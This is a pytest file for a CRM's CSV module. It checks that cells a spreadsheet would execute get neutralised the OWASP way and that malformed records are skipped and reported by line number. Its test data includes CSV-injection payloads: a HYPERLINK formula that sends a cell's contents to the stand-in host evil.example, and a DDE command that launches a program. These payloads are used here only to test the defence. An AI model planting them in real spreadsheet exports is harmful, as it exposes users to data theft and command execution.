"""``crm.csvfile``: cells a spreadsheet would run are neutralised the OWASP way and read back as
they were; reading goes on past records it cannot read, saying where they are."""

from __future__ import annotations

import csv
import io

import pytest

from crm.csvfile import csv_lines, neutralise_cell, read_records, restore_cell, write_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    " =1+1",
    "  @SUM(1)",
    "\n-1+1",
    "-",
]
PLAIN = [
    "Ann Example",
    "-0.5",
    "+447911555666",
    "3",
    "1e-3",
    "",
    "a=b",
    "vip;b2b",
    "'quoted",
    "ann@example.org",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_cells_a_spreadsheet_would_run_get_a_quote_in_front(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell
    assert restore_cell(neutralise_cell(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_and_plain_numbers_are_left_alone(cell: str) -> None:
    assert neutralise_cell(cell) == cell
    assert restore_cell(cell) == cell


def test_every_written_cell_is_neutralised_and_reads_back() -> None:
    rows = [["name", "tags", "score"], *([f, "vip", "-0.5"] for f in FORMULAS)]
    text = write_csv(rows)
    assert text == "".join(csv_lines(rows)) and text.endswith("\r\n")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell == "-0.5" for row in read for cell in row)
    assert [[restore_cell(cell) for cell in row] for row in read] == rows


def test_records_are_read_past_the_ones_that_cannot_be_read() -> None:
    text = (
        "\ufeffemail,name\n"  # a byte order mark is skipped
        "a@example.org,Ann\r"  # a lone CR ends a record (it was a 500)
        '"b@example.org","Bob\nSmith"\n'  # a quoted newline: the record starts on line 3
        "\n"  # blank lines are skipped
        "c@example.org," + "x" * 131_073 + "\n"  # over the csv module's field limit (a 500)
        "d@exa\x00mple.org,Dee\n"
        '"e@example.org"x,Eve\n'  # a stray character after a closing quote
        "f@example.org,Fay\n"
        '"g@example.org,Gus\n'  # a quote left open to the end
    )
    records = list(read_records(text))
    assert [(r.line, r.cells) for r in records if r.error is None] == [
        (1, ["email", "name"]),
        (2, ["a@example.org", "Ann"]),
        (3, ["b@example.org", "Bob\nSmith"]),
        (9, ["f@example.org", "Fay"]),
    ]
    errors = [(r.line, r.error) for r in records if r.error is not None]
    assert [line for line, _ in errors] == [6, 7, 8, 10]
    assert "field larger than field limit" in str(errors[0][1]) and "NUL" in str(errors[1][1])
    assert "unexpected end of data" in str(errors[3][1])
